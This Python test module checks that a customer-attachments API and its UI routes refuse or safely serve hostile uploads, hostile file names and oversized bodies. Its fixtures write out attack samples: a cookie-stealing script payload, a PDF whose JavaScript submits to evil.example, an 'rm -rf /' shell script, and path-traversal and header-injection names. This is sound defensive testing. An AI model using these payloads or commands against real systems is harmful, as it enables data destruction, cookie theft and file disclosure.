"""Issue 8's security matrix, the upload half: hostile files and names against the customer
attachments API and the salesperson UI's upload route, on both real blob stores (a local
folder and moto's S3 server), and what every way of downloading them answers.

- polyglots and lying types: the bytes decide; anything not an allowed type is 415, and
  what is accepted (a JPEG or PDF header followed by HTML, a Word document that is also a
  JAR) is served as that type only, never as a page: `nosniff`, a sandbox CSP, `attachment`
  (inline only for images and PDFs, still sandboxed);
- huge files: just over and far over the limit are 413 problem+json with nothing in the
  database, the blob store or the spool folder, and the body is not read past the limit
  (chunked bodies included, their epilogue too);
- hostile names: accepted under a safe stored name or refused naming `file`; the blob key
  is always `<customer id>/<attachment id>`, never anything from the name;
- downloads: the API, the salesperson UI's route and the CS UI's proxy (through to the real
  customer app) all send `nosniff`, a sandbox CSP and a Content-Disposition whose names
  hold no path, quote or line break.
"""

import io
import re
import unicodedata
import uuid
import zipfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine, create_async_engine

from approval.ui.attachments import AttachmentProxy
from customer.file_types import MAX_FILENAME_CHARS
from shared.errors import PROBLEM_JSON
from tests.approval.helpers import deliver, submission
from tests.customer.test_attachments import docx_bytes, pdf_bytes, png_bytes
from tests.fixtures.apps import build_app
from tests.fixtures.s3 import S3Server
from tests.shared.ui.client import UiClient

pytestmark = [pytest.mark.usefixtures("customer_replica"), pytest.mark.timeout(240)]

Auth = Any
KiB, MiB = 1024, 1024 * 1024
#: The tests' upload limit (a setting): small, so "over the limit" costs little.
LIMIT = 256 * KiB
BOUNDARY = "x-b0undary"
UUID_KEY = re.compile(
    r"[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}"
)
SANDBOX = re.compile(r"(^|;)\s*sandbox\s*(;|$)")
STORES = ("local", "s3")
#: Windows refuses these as file names, whatever their extension.
WINDOWS_DEVICES = {"CON", "PRN", "AUX", "NUL"} | {
    f"{p}{n}" for p in ("COM", "LPT") for n in "123456789"
}


# ---- hostile files -------------------------------------------------------------------------

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
HTML = b"<!DOCTYPE html><html><body><script>window.__xss=1;alert(document.cookie)</script></body></html>"


def pdf_with_javascript() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        b"3 0 obj <</S /JavaScript /JS (app.alert('xss'); this.submitForm('https://evil.example/'))>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_jar_polyglot() -> bytes:
    """A real Word document that is also a runnable-looking Java archive."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    files = {name: source.read(name) for name in source.namelist()}
    files["META-INF/MANIFEST.MF"] = b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n"
    files["Evil.class"] = b"\xca\xfe\xba\xbe" + b"\x00" * 32
    return zip_of(files)


def pdf_zip_polyglot() -> bytes:
    return pdf_bytes() + zip_of({"index.html": HTML})


@dataclass(frozen=True)
class FileCase:
    id: str
    content: bytes
    filename: str
    part_type: str  # the Content-Type the client declares for the part (ignored: a lie)
    served_as: str | None  # the type it is stored and served as; None: refused with 415


# fmt: off
FILES = [
    FileCase("gif-header+html",   b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + HTML, "anh.gif", "image/gif", None),
    FileCase("jpeg-header+html",  b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + HTML,      "trang.html", "text/html", "image/jpeg"),
    FileCase("pdf-with-js",       pdf_with_javascript(),                            "hoa-don.pdf", "application/pdf", "application/pdf"),
    FileCase("pdf-header+html",   b"%PDF-1.4\n" + HTML,                              "x.htm", "text/html", "application/pdf"),
    FileCase("pdf+zip",           pdf_zip_polyglot(),                               "a.zip", "application/zip", "application/pdf"),
    FileCase("svg-with-script",   b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>', "logo.svg", "image/svg+xml", None),
    FileCase("svg-named-png",     b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.png", "image/png", None),
    FileCase("docx+jar",          docx_jar_polyglot(),                              "tool.jar", "application/java-archive", DOCX_TYPE),
    FileCase("plain-jar",         zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\n", "Evil.class": b"\xca\xfe\xba\xbe"}), "hop-dong.docx", DOCX_TYPE, None),
    FileCase("html-named-jpg",    HTML,                                              "anh.jpg", "image/jpeg", None),
    FileCase("html-with-bom",     b"\xef\xbb\xbf" + HTML,                            "anh.jpeg", "image/jpeg", None),
    FileCase("xhtml-named-pdf",   b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "a.pdf", "application/pdf", None),
    FileCase("pdf-declared-png",  pdf_bytes(),                                      "scan.png", "image/png", "application/pdf"),
    FileCase("png-declared-html", png_bytes(),                                      "anh.png", "text/html", "image/png"),
    FileCase("exe-declared-pdf",  b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00",     "hoso.pdf", "application/pdf", None),
    FileCase("elf-script",        b"#!/bin/sh\nrm -rf /\n",                         "run.pdf", "application/pdf", None),
]
# fmt: on


# ---- hostile names -------------------------------------------------------------------------


@dataclass(frozen=True)
class NameCase:
    id: str
    raw: bytes  # the filename bytes exactly as sent in the part's header
    stored: str | None  # the stored name; None: refused 422 naming `file`; "*": just safe


# fmt: off
NAMES = [
    NameCase("traversal",          b"../../etc/passwd",                  None),
    NameCase("windows-traversal",  b"..\\..\\win.ini",                   None),
    NameCase("mixed-traversal",    b"a/..\\..\\b.pdf",                   None),
    NameCase("only-dot-dot",       b"..",                                None),
    NameCase("absolute-unix",      b"/etc/passwd",                       "passwd.pdf"),
    NameCase("absolute-windows",   b"C:\\Windows\\System32\\drivers\\etc\\hosts", "hosts.pdf"),
    NameCase("unc-path",           b"\\\\evil.example\\share\\a.pdf",    "a.pdf"),
    NameCase("nul-byte",           b"a\x00.pdf\x00.html",                "*"),
    NameCase("control-chars",      b"bao\x1b[31mcao\x07\x08.pdf",        "bao[31mcao.pdf"),
    NameCase("rtl-override",       "hoa-don\u202efdp.exe".encode(),      "hoa-donfdp.exe.pdf"),
    NameCase("1000-chars",         ("Đ" * 996 + ".pdf").encode(),        "*"),
    NameCase("only-dots",          b"....",                              "attachment.pdf"),
    NameCase("one-dot",            b".",                                 "attachment.pdf"),
    NameCase("empty-name",         b"",                                  "attachment.pdf"),
    NameCase("con",                b"CON",                               "_CON.pdf"),
    NameCase("con-with-extension", b"con.pdf",                           "_con.pdf"),
    NameCase("lpt1",               b"LPT1.tar.pdf",                      "_LPT1.tar.pdf"),
    NameCase("nul-device",         b"nul",                               "_nul.pdf"),
    NameCase("reserved-chars",     b'a<b>:c|d?e*.pdf',                   "a_b__c_d_e_.pdf"),
    NameCase("quotes-and-semicolon", b"x\"; filename=evil.html; a=\".pdf", "*"),
    NameCase("percent-traversal",  b"%2e%2e%2fetc%2fpasswd",             "%2e%2e%2fetc%2fpasswd.pdf"),
    NameCase("fullwidth-slashes",  "..／..／etc／passwd.pdf".encode(),     None),
    NameCase("fullwidth-dots",     "．．＼．．＼win.ini".encode(),          None),
    NameCase("fullwidth-reserved", "ｈｏａ＂ｄｏｎ＂：ｘ.pdf".encode(),      "ｈｏａ＂ｄｏｎ＂：ｘ.pdf"),
    NameCase("superscript-com",    "COM¹.pdf".encode(),                  "_COM¹.pdf"),
    NameCase("trailing-dots-spaces", b"hoa don.pdf. . ",                 "hoa don.pdf"),
    NameCase("html-name",          b"<img src=x onerror=alert(1)>.pdf",  "_img src=x onerror=alert(1)_.pdf"),
    NameCase("latin-1",            "Hóa đơn".encode("latin-1", "replace"), "*"),
]
# fmt: on


# ---- the environment -----------------------------------------------------------------------


@dataclass
class Env:
    app: FastAPI
    api: httpx.AsyncClient
    engine: AsyncEngine
    store: str
    blob_dir: Path
    spool_dir: Path
    s3: S3Server
    bucket: str

    def blob_keys(self) -> list[str]:
        if self.store == "s3":
            return self.s3.keys(self.bucket)
        if not self.blob_dir.exists():
            return []
        return sorted(
            p.relative_to(self.blob_dir).as_posix() for p in self.blob_dir.rglob("*") if p.is_file()
        )

    def spooled(self) -> list[Path]:
        return (
            [p for p in self.spool_dir.rglob("*") if p.is_file()] if self.spool_dir.exists() else []
        )

    async def rows(self, customer_id: str) -> list[dict[str, Any]]:
        async with self.engine.connect() as conn:
            result = await conn.execute(
                text(
                    "SELECT id, filename, content_type, storage_key FROM attachments WHERE customer_id = :id"
                ),
                {"id": customer_id},
            )
            return [dict(r._mapping) for r in result]

    async def assert_nothing_stored(self, customer_id: str) -> None:
        """No row and no blob of this test's customer; nothing left in the spool folder."""
        assert await self.rows(customer_id) == []
        assert [k for k in self.blob_keys() if not UUID_KEY.fullmatch(k)] == []
        assert [k for k in self.blob_keys() if k.startswith(customer_id)] == []
        assert self.spooled() == []


@pytest.fixture(scope="module")
async def engine(service_databases: dict[str, str]) -> AsyncIterator[AsyncEngine]:
    engine = create_async_engine(service_databases["customer"])
    yield engine
    await engine.dispose()


@pytest.fixture(scope="module")
def bucket(s3_server: S3Server) -> Iterator[str]:
    client = s3_server.client()
    name = f"ims-upload-{uuid.uuid4().hex[:12]}"
    client.create_bucket(Bucket=name)
    yield name
    for key in s3_server.keys(name):
        client.delete_object(Bucket=name, Key=key)
    client.delete_bucket(Bucket=name)


def customer_app(
    store: str,
    databases: dict[str, str],
    public_key: Path,
    tmp: Path,
    s3: S3Server,
    bucket: str,
    **extra: Any,
) -> FastAPI:
    settings: dict[str, Any] = {
        "upload_tmp_dir": tmp / "spool",
        "attachment_max_bytes": LIMIT,
        **extra,
    }
    if store == "s3":
        settings |= s3.settings(bucket)
    else:
        settings |= {"blob_dir": tmp / "blobs"}
    return build_app("customer", databases["customer"], public_key, **settings)


@pytest.fixture(scope="module", params=STORES)
async def env(
    request: pytest.FixtureRequest,
    service_databases: dict[str, str],
    dev_keys: tuple[Path, Path],
    tmp_path_factory: pytest.TempPathFactory,
    s3_server: S3Server,
    bucket: str,
    engine: AsyncEngine,
) -> AsyncIterator[Env]:
    """One app per store for the module (its S3 client is costly to make); each test works
    on a customer of its own, so "nothing stored" is checked for that customer."""
    store = request.param
    tmp_path = tmp_path_factory.mktemp(f"uploads-{store}")
    app = customer_app(store, service_databases, dev_keys[1], tmp_path, s3_server, bucket)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://test"
    ) as api:
        yield Env(
            app, api, engine, store, tmp_path / "blobs", tmp_path / "spool", s3_server, bucket
        )
    await app.state.runtime.engine.dispose()
    config = getattr(app.state, "customer_attachments", None)
    if config is not None:
        await config.aclose()


# ---- helpers -------------------------------------------------------------------------------


def part(
    name: str, data: bytes, filename: bytes | None = None, content_type: str | None = None
) -> bytes:
    disposition = f'form-data; name="{name}"'.encode()
    if filename is not None:
        disposition += b'; filename="' + filename + b'"'
    head = b"Content-Disposition: " + disposition + b"\r\n"
    if content_type:
        head += f"Content-Type: {content_type}\r\n".encode()
    return f"--{BOUNDARY}\r\n".encode() + head + b"\r\n" + data + b"\r\n"


def body_of(
    content: bytes,
    filename: bytes = b"a.pdf",
    content_type: str = "application/octet-stream",
    kind: str = "other",
) -> bytes:
    return (
        part("kind", kind.encode())
        + part("file", content, filename, content_type)
        + f"--{BOUNDARY}--\r\n".encode()
    )


MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


async def new_customer(api: httpx.AsyncClient, auth: Auth, name: str) -> str:
    response = await api.post("/api/v1/customers", json={"full_name": name}, headers=auth("sales1"))
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


async def post_raw(
    api: httpx.AsyncClient, auth: Auth, customer_id: str, body: Any, **headers: str
) -> httpx.Response:
    return await api.post(
        f"/api/v1/customers/{customer_id}/attachments",
        content=body,
        headers={**auth("sales1"), "Content-Type": MULTIPART, **headers},
    )


def disposition_names(value: str) -> list[str]:
    """Every file name a Content-Disposition value gives (the quoted and the RFC 5987 one)."""
    names = re.findall(r'filename="([^"]*)"', value)
    names += [
        httpx.URL("http://x/?n=" + encoded).params["n"]
        for encoded in re.findall(r"filename\*=UTF-8''([^;\s]+)", value)
    ]
    return names


def assert_safe_download(
    response: httpx.Response, *, content_type: str, inline_allowed: bool
) -> None:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].split(";")[0] == content_type
    assert response.headers["x-content-type-options"] == "nosniff"
    csp = response.headers["content-security-policy"]
    assert "default-src 'none'" in csp and SANDBOX.search(csp), csp
    assert "script-src" not in csp and "unsafe" not in csp
    disposition = response.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    mode = disposition.split(";")[0].strip()
    inline_types = {"image/jpeg", "image/png", "image/webp", "application/pdf"}
    assert mode == ("inline" if inline_allowed and content_type in inline_types else "attachment")
    names = disposition_names(disposition)
    assert len(names) == 2, disposition
    for name in names:
        assert_safe_name(name)


def assert_safe_name(name: str) -> None:
    assert name and len(name) <= MAX_FILENAME_CHARS, name
    assert not any(ch in name for ch in '/\\"<>:|?*'), name
    assert not any(unicodedata.category(ch).startswith("C") for ch in name), repr(name)
    assert name == name.strip(" ."), repr(name)  # no hidden file, no trailing dot or space
    assert name.split(".")[0].upper() not in WINDOWS_DEVICES, name


async def assert_keys_are_ids(env: Env, customer_id: str) -> list[dict[str, Any]]:
    rows = await env.rows(customer_id)
    for row in rows:
        assert row["storage_key"] == f"{customer_id}/{row['id']}"
    assert sorted(r["storage_key"] for r in rows) == [
        k for k in env.blob_keys() if k.startswith(customer_id)
    ]
    return rows


# ---- polyglots and lying types -------------------------------------------------------------


@pytest.mark.parametrize("case", FILES, ids=[c.id for c in FILES])
async def test_polyglots_are_refused_or_served_only_as_their_real_type(
    env: Env, auth_header: Auth, sales_ui: Any, case: FileCase
) -> None:
    cid = await new_customer(env.api, auth_header, f"Khách tệp lạ {case.id}")
    response = await post_raw(
        env.api, auth_header, cid, body_of(case.content, case.filename.encode(), case.part_type)
    )
    if case.served_as is None:
        assert response.status_code == 415, response.text
        assert response.headers["content-type"] == PROBLEM_JSON
        await env.assert_nothing_stored(cid)
        return
    assert response.status_code == 201, response.text
    attachment = response.json()
    assert attachment["content_type"] == case.served_as
    assert_safe_name(attachment["filename"])
    # The extension follows the real type: an HTML name never survives as the last one.
    assert not attachment["filename"].lower().endswith((".html", ".htm", ".svg", ".jar", ".zip"))
    (row,) = await assert_keys_are_ids(env, cid)
    assert row["filename"] == attachment["filename"]

    url = f"/api/v1/customers/{cid}/attachments/{attachment['id']}"
    api_download = await env.api.get(url, headers=auth_header("sales1"))
    assert api_download.content == case.content
    assert_safe_download(api_download, content_type=case.served_as, inline_allowed=False)

    ui = await sales_ui(env.app)
    page_download = await ui.get(f"/ui/customers/{cid}/attachments/{attachment['id']}")
    assert page_download.content == case.content
    assert_safe_download(page_download, content_type=case.served_as, inline_allowed=True)


# ---- hostile names -------------------------------------------------------------------------


@pytest.mark.parametrize("case", NAMES, ids=[c.id for c in NAMES])
async def test_hostile_names_are_stored_safely_or_refused_and_never_a_path(
    env: Env, auth_header: Auth, case: NameCase
) -> None:
    cid = await new_customer(env.api, auth_header, f"Khách tên tệp {case.id}")
    response = await post_raw(env.api, auth_header, cid, body_of(pdf_bytes(), case.raw))
    if case.stored is None:
        assert response.status_code == 422, response.text
        assert response.headers["content-type"] == PROBLEM_JSON
        assert "file" in [e["field"] for e in response.json()["errors"]]
        await env.assert_nothing_stored(cid)
        return
    assert response.status_code == 201, response.text
    stored = response.json()["filename"]
    if case.stored != "*":
        assert stored == case.stored
    assert_safe_name(stored)
    assert stored.endswith(".pdf")
    (row,) = await assert_keys_are_ids(env, cid)
    assert row["filename"] == stored
    # Nothing is ever stored under a key made from a name: every key is two ids.
    assert all(UUID_KEY.fullmatch(k) for k in env.blob_keys())
    download = await env.api.get(
        f"/api/v1/customers/{cid}/attachments/{row['id']}", headers=auth_header("sales1")
    )
    assert_safe_download(download, content_type="application/pdf", inline_allowed=False)
    assert stored in disposition_names(download.headers["content-disposition"])


# ---- huge files ----------------------------------------------------------------------------


class CountingBody(httpx.AsyncByteStream):
    """A chunked request body (no Content-Length) that counts what the server pulled."""

    def __init__(self, head: bytes, filler: int, tail: bytes = b"", chunk: int = 64 * KiB) -> None:
        self.head, self.filler, self.tail, self.chunk = head, filler, tail, chunk
        self.sent = 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        yield self.head
        self.sent += len(self.head)
        left = self.filler
        while left > 0:
            piece = b"0" * min(self.chunk, left)
            left -= len(piece)
            self.sent += len(piece)
            yield piece
        if self.tail:
            self.sent += len(self.tail)
            yield self.tail


FILE_HEAD = (
    part("kind", b"other")
    + (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n\r\n%PDF-1.4\n'
    ).encode()
)
CLOSE = f"\r\n--{BOUNDARY}--\r\n".encode()


def problem_413(response: httpx.Response) -> None:
    assert response.status_code == 413, response.text
    assert response.headers["content-type"] == PROBLEM_JSON
    assert response.json()["status"] == 413


async def test_a_file_one_byte_over_the_limit_is_413_and_nothing_is_stored(
    env: Env, auth_header: Auth
) -> None:
    cid = await new_customer(env.api, auth_header, "Khách tệp vừa quá")
    exactly = b"%PDF-1.4\n" + b"0" * (LIMIT - 9)
    problem_413(await post_raw(env.api, auth_header, cid, body_of(exactly + b"0")))
    await env.assert_nothing_stored(cid)
    ok = await post_raw(env.api, auth_header, cid, body_of(exactly))
    assert ok.status_code == 201, ok.text  # the limit itself is inclusive


async def test_a_declared_huge_body_is_refused_before_a_byte_is_read(
    env: Env, auth_header: Auth
) -> None:
    cid = await new_customer(env.api, auth_header, "Khách tệp khổng lồ")
    body = CountingBody(FILE_HEAD, 1024 * MiB, CLOSE)
    response = await env.api.post(
        f"/api/v1/customers/{cid}/attachments",
        content=body,
        headers={
            **auth_header("sales1"),
            "Content-Type": MULTIPART,
            "Content-Length": str(1024 * MiB + 200),
        },
    )
    problem_413(response)
    assert body.sent <= len(FILE_HEAD)  # at most the first chunk was ever pulled
    await env.assert_nothing_stored(cid)


async def test_a_chunked_huge_file_stops_being_read_at_the_limit(
    env: Env, auth_header: Auth
) -> None:
    cid = await new_customer(env.api, auth_header, "Khách tệp không độ dài")
    body = CountingBody(FILE_HEAD, 512 * MiB, CLOSE)
    response = await env.api.post(
        f"/api/v1/customers/{cid}/attachments",
        content=body,
        headers={**auth_header("sales1"), "Content-Type": MULTIPART},
    )
    problem_413(response)
    assert body.sent < LIMIT + 256 * KiB, body.sent
    await env.assert_nothing_stored(cid)


@pytest.mark.parametrize(
    "where",
    ["epilogue", "ignored-field", "preamble-part-headers"],
)
async def test_bytes_beside_the_file_are_bounded_too(
    env: Env, auth_header: Auth, where: str
) -> None:
    """A small file with a huge epilogue (after the closing boundary), a huge unknown field,
    or a part with endless headers: the server stops reading near the limit."""
    cid = await new_customer(env.api, auth_header, f"Khách phần thừa {where}")
    small = body_of(pdf_bytes())
    if where == "epilogue":
        body = CountingBody(small, 512 * MiB)
    elif where == "ignored-field":
        body = CountingBody(
            part("kind", b"other")
            + f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="junk"\r\n\r\n'.encode(),
            512 * MiB,
        )
    else:
        body = CountingBody(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="'.encode(),
            512 * MiB,
        )
    response = await env.api.post(
        f"/api/v1/customers/{cid}/attachments",
        content=body,
        headers={**auth_header("sales1"), "Content-Type": MULTIPART},
    )
    assert response.status_code in (400, 413), response.text
    assert response.headers["content-type"] == PROBLEM_JSON
    assert body.sent < LIMIT + 256 * KiB, body.sent
    await env.assert_nothing_stored(cid)


async def test_a_refused_upload_is_never_held_in_memory(env: Env, auth_header: Auth) -> None:
    """16 MiB sent chunked against the small limit: if the body were buffered anywhere
    before the refusal, the peak allocation would be at least that."""
    import tracemalloc

    cid = await new_customer(env.api, auth_header, "Khách tệp trong bộ nhớ")
    body = CountingBody(FILE_HEAD, 16 * MiB, CLOSE)
    tracemalloc.start()
    try:
        response = await env.api.post(
            f"/api/v1/customers/{cid}/attachments",
            content=body,
            headers={**auth_header("sales1"), "Content-Type": MULTIPART},
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    problem_413(response)
    assert peak < 2 * MiB, peak
    await env.assert_nothing_stored(cid)


# ---- the salesperson UI's upload route -----------------------------------------------------


@pytest.fixture
async def sales_ui() -> AsyncIterator[Any]:
    """Sign a user in to the salesperson UI of an app (a cookie jar of their own)."""
    opened: list[httpx.AsyncClient] = []

    async def make(app: FastAPI, username: str = "sales1") -> UiClient:
        client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test")
        opened.append(client)
        ui = UiClient(client)
        await ui.sign_in(username)
        return ui

    yield make
    for client in opened:
        await client.aclose()


async def ui_upload(
    ui: UiClient, cid: str, content: bytes, filename: bytes, **headers: str
) -> httpx.Response:
    page = await ui.get(f"/ui/customers/{cid}/edit")
    assert page.status_code == 200, page.text
    token = re.search(r'name="csrf_token" value="([0-9a-f]{64})"', page.text)
    assert token
    body = (
        part("csrf_token", token.group(1).encode())
        + part("kind", b"other")
        + part("file", content, filename, "application/octet-stream")
        + f"--{BOUNDARY}--\r\n".encode()
    )
    return await ui.http.post(
        f"/ui/customers/{cid}/attachments",
        content=body,
        headers={
            "Content-Type": MULTIPART,
            "Origin": "http://test",
            "Accept": "application/json",
            **headers,
        },
    )


UI_CASES = [
    c
    for c in FILES
    if c.id in ("jpeg-header+html", "svg-with-script", "html-named-jpg", "docx+jar")
]


@pytest.mark.parametrize("case", UI_CASES, ids=[c.id for c in UI_CASES])
async def test_the_ui_upload_route_types_files_like_the_api(
    env: Env, auth_header: Auth, sales_ui: Any, case: FileCase
) -> None:
    cid = await new_customer(env.api, auth_header, f"Khách UI tệp {case.id}")
    ui = await sales_ui(env.app)
    response = await ui_upload(ui, cid, case.content, case.filename.encode())
    if case.served_as is None:
        assert response.status_code == 415, response.text
        assert response.json()["ok"] is False
        await env.assert_nothing_stored(cid)
        return
    assert response.status_code == 200 and response.json()["ok"] is True, response.text
    (row,) = await assert_keys_are_ids(env, cid)
    assert row["content_type"] == case.served_as
    assert_safe_name(row["filename"])


@pytest.mark.parametrize(
    "case",
    [
        n
        for n in NAMES
        if n.id
        in (
            "traversal",
            "windows-traversal",
            "con",
            "rtl-override",
            "1000-chars",
            "fullwidth-slashes",
        )
    ],
    ids=lambda n: n.id,
)
async def test_the_ui_upload_route_names_files_like_the_api(
    env: Env, auth_header: Auth, sales_ui: Any, case: NameCase
) -> None:
    cid = await new_customer(env.api, auth_header, f"Khách UI tên {case.id}")
    ui = await sales_ui(env.app)
    response = await ui_upload(ui, cid, pdf_bytes(), case.raw)
    if case.stored is None:
        assert response.status_code == 422, response.text
        await env.assert_nothing_stored(cid)
        return
    assert response.status_code == 200, response.text
    (row,) = await assert_keys_are_ids(env, cid)
    if case.stored != "*":
        assert row["filename"] == case.stored
    assert_safe_name(row["filename"])


@pytest.mark.parametrize("size", ["just-over", "far-over"])
async def test_the_ui_upload_route_refuses_huge_files_storing_nothing(
    env: Env, auth_header: Auth, sales_ui: Any, size: str
) -> None:
    cid = await new_customer(env.api, auth_header, f"Khách UI tệp lớn {size}")
    ui = await sales_ui(env.app)
    if size == "just-over":
        response = await ui_upload(ui, cid, b"%PDF-1.4\n" + b"0" * (LIMIT - 8), b"a.pdf")
        assert response.status_code == 413, response.text
    else:
        page = await ui.get(f"/ui/customers/{cid}/edit")
        token = re.search(r'name="csrf_token" value="([0-9a-f]{64})"', page.text)
        assert token
        body = CountingBody(
            part("csrf_token", token.group(1).encode()) + FILE_HEAD, 1024 * MiB, CLOSE
        )
        response = await ui.http.post(
            f"/ui/customers/{cid}/attachments",
            content=body,
            headers={
                "Content-Type": MULTIPART,
                "Origin": "http://test",
                "Accept": "application/json",
                "Content-Length": str(1024 * MiB + 500),
            },
        )
        assert response.status_code == 413, response.text
        assert body.sent <= len(body.head)
    await env.assert_nothing_stored(cid)


# ---- the CS UI's attachment proxy, through to the real customer service ---------------------


async def test_the_cs_ui_proxy_serves_polyglots_safely(
    env: Env,
    auth_header: Auth,
    service_databases: dict[str, str],
    dev_keys: tuple[Path, Path],
) -> None:
    cid = await new_customer(env.api, auth_header, "Khách tệp qua CS")
    uploaded = []
    for case in [c for c in FILES if c.served_as] + [
        FileCase("png", png_bytes(), "CON", "image/png", "image/png")
    ]:
        response = await post_raw(
            env.api,
            auth_header,
            cid,
            body_of(case.content, "ｅｔｃ／".encode() + case.filename.encode(), case.part_type),
        )
        assert response.status_code == 201, response.text
        uploaded.append((case, response.json()))
    customer = (await env.api.get(f"/api/v1/customers/{cid}", headers=auth_header("sales1"))).json()
    assert len(customer["attachments"]) == len(uploaded)

    approval = build_app("approval", service_databases["approval"], dev_keys[1])
    approval_engine = create_async_engine(service_databases["approval"])
    data = submission(
        uuid.UUID(cid), full_name=customer["full_name"], attachments=customer["attachments"]
    )
    await deliver(approval_engine, data)
    async with approval_engine.connect() as conn:
        rid = await conn.scalar(text("SELECT id FROM reviews WHERE customer_id = :c"), {"c": cid})
    await approval_engine.dispose()
    # The proxy calls the real customer app in process, with cs1's own token.
    approval.state.attachment_proxy = AttachmentProxy(
        "http://customer.test", transport=httpx.ASGITransport(app=env.app)
    )
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=approval), base_url="http://test"
    ) as client:
        cs = UiClient(client)
        await cs.sign_in("cs1")
        for case, attachment in uploaded:
            response = await cs.get(f"/ui/reviews/{rid}/attachments/{attachment['id']}")
            assert response.content == case.content
            assert_safe_download(response, content_type=str(case.served_as), inline_allowed=True)
    await approval.state.runtime.engine.dispose()
